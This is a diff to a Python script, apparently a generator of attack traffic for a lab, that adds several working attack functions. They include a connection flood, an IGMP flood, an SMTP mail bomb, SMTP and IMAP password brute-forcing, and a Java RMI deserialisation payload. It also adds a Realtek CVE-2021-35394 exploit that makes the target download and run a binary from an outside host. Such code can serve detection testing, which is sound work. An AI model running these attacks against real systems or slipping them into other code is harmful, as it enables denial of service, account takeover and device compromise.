@@ -99,6 +99,42 @@ def arp_storm(interface, rate, seconds):
         s.send(b"\xff" * 6 + mine + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 1) + mine + socket.inet_aton("10.66.20.77") + b"\0" * 6 + socket.inet_aton(f"10.66.20.{i % 254 + 1}"))
 
 
+def xerxes(target, port, threads, seconds):
+    """Connections into which a zero byte is written again and again, and that are made anew when they break."""
+    def one_thread():
+        for _ in until(seconds):
+            try:
+                with connect(target, port) as s:
+                    for _ in until(seconds):
+                        s.sendall(b"\0")
+                        time.sleep(0.003)
+            except OSError:
+                time.sleep(0.02)
+    together(*[one_thread] * int(threads))
+
+
+def igmp(source, target, rate, seconds):
+    s = sender()
+    for _ in paced(float(rate) * float(seconds), rate):
+        body = struct.pack("!BBH4s", 0x11, 0, 0xEEFF, b"\0\0\0\0")
+        s.sendto(ip(source, target, 2, body), (target, 0))
+
+
+def smtp_bodies(target, threads, seconds):
+    """Mail after mail over connections of their own, as fast as they are taken (a mail bomb)."""
+    def one_thread():
+        for _ in until(seconds):
+            try:
+                with connect(target, 25) as s:
+                    s.recv(300)
+                    for line in (b"HELO x\r\n", b"MAIL FROM:<a@b.example>\r\n", b"RCPT TO:<boss@depot.example>\r\n", b"DATA\r\n", b"Subject: x\r\n\r\n" + b"spam " * 200 + b"\r\n.\r\n"):
+                        s.sendall(line)
+                        s.recv(300)
+            except OSError:
+                pass
+    together(*[one_thread] * int(threads))
+
+
 # Slow
 
 def hold(target, port, count, seconds, first, drip, every, jitter=10, tls=False, reads=False):
@@ -209,6 +245,32 @@ def redis_one(target, count):
             s.sendall(f"AUTH {word(i)}\r\n".encode())
             s.recv(200)
             time.sleep(0.02)
+
+
+def smtp_plain(target, count):
+    for i in range(int(count)):
+        try:
+            with connect(target, 25) as s:
+                s.recv(500)
+                s.sendall(b"EHLO x\r\n")
+                s.recv(500)
+                s.sendall(b"AUTH PLAIN " + base64.b64encode(b"\0info@depot.example\0" + word(i).encode()) + b"\r\n")
+                s.recv(500)
+        except OSError:
+            pass
+        time.sleep(0.25)
+
+
+def imap_plain(target, count):
+    for i in range(int(count)):
+        try:
+            with connect(target, 143) as s:
+                s.recv(500)
+                s.sendall(b"a AUTHENTICATE PLAIN " + base64.b64encode(b"\0boss\0" + word(i).encode()) + b"\r\n")
+                s.recv(500)
+        except OSError:
+            pass
+        time.sleep(0.25)
 
 
 def vrfy(target, count):
@@ -385,6 +447,23 @@ def telnet_default(target):
             quietly(s.recv, 500)
             s.sendall(line + b"\r\n")
             time.sleep(0.3)
+
+
+def realtek(target):
+    """CVE-2021-35394: a diagnosis by UDP that runs what it is told."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for _ in range(3):
+        s.sendto(b"orf;cd /tmp; wget http://203.0.113.70/b/mips; chmod 777 mips; ./mips realtek", (target, 9034))
+        time.sleep(1)
+
+
+def rmi(target):
+    """A serialised object to a Java registry, as ysoserial's JRMP client sends it."""
+    with connect(target, 1099) as s:
+        s.sendall(b"JRMI\0\2K\0\0\0\0\0\0")
+        quietly(s.recv, 300)
+        s.sendall(b"P\xac\xed\0\5w\x22" + b"\0" * 33 + b"\2sr\0\x2ejava.util.PriorityQueuexr\0org.apache.commons.collections4.functors.InvokerTransformer\x74\0\4exec" + os.urandom(300))
+        time.sleep(1)
 
 
 if __name__ == "__main__":
